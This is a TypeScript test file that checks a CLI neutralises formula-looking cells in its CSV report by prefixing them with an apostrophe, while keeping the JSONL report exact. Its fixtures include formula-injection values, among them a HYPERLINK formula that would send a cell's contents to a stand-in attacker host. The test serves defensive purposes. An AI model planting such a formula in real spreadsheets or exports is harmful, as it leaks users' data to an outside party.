// A report cell that starts like a formula (= + - @, tab, CR) is written with a leading ' in
// CSV, so a spreadsheet shows it as text instead of running it; JSON lines stay exact.
import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { respond } from '../helpers/fault-server.js';
import { useFaultServers } from '../faults/support.js';
import { envFor, generateArgs, jobsPage, parseCsv, runCli, tempDir } from './support.js';

const serve = useFaultServers();
let tmp: ReturnType<typeof tempDir>;
beforeEach(() => {
  tmp = tempDir();
});
afterEach(() => tmp.cleanup());

const IDS = ['=1+2', '+cmd', '-2+3', '@SUM(A1)', 'PO-5', 'PO-6'];
const FORMULA = '=HYPERLINK("http://attacker.example/?q="&A1,"click")';

describe('formula-looking cells in the report', () => {
  it("CSV cells get a leading '; the JSONL report keeps them exact", async () => {
    const page = jobsPage('7000123', IDS.length);
    // A tab or CR first: the file name cannot start with one, a server's warning can.
    page.entries[3] = { ...page.entries[3]!, failures: { errors: [], warnings: ['\rcarriage return'] } as never };
    page.entries[4] = { ...page.entries[4]!, failures: { errors: [], warnings: ['\ttab', 'second'] } as never };
    page.entries[5] = {
      ...page.entries[5]!,
      status: 'failed',
      output_file: null as never,
      failures: { errors: [FORMULA], warnings: [] } as never,
    };
    const server = await serve((_, head) =>
      head.method === 'POST' ? respond(202, { id: '7000123', type: 'docgen_batch' }) : respond(200, page),
    );
    const env = envFor({ url: `${server.url}/2.0` });
    const data = tmp.write('orders.csv', `order.id,vendor.company\n${IDS.map((id) => `"${id}",Acme`).join('\n')}\n`);
    const state = tmp.path('l.jsonl');
    const result = await runCli(
      generateArgs(data, ['--state', state, '--wait', '--poll-interval', '10', '--report', tmp.path('r.csv')]),
      { env },
    );
    expect(result.code).toBe(1); // the failed job

    const csv = parseCsv(readFileSync(tmp.path('r.csv'), 'utf8'));
    expect(csv.map((l) => l.name)).toEqual([
      "'=1+2 Acme",
      "'+cmd Acme",
      "'-2+3 Acme",
      "'@SUM(A1) Acme",
      'PO-5 Acme',
      'PO-6 Acme',
    ]);
    expect(csv[5]!.errors).toBe(`'${FORMULA}`);
    expect([csv[3]!.warnings, csv[4]!.warnings]).toEqual(["'\rcarriage return", "'\ttab | second"]);
    // Numbers and ordinary text are untouched.
    expect(csv[0]).toMatchObject({ row: '0', line: '2', status: 'completed', job_id: '70001230000' });

    const jsonl = await runCli(['report', state, '--output', tmp.path('r.jsonl')], { env });
    const lines = readFileSync(tmp.path('r.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.map((l) => l.name)).toEqual(IDS.map((id) => `${id} Acme`));
    expect(lines[5].errors).toEqual([FORMULA]);
    expect(lines[4].warnings).toEqual(['\ttab', 'second']);
    expect(jsonl.code).toBe(1);
  });
});
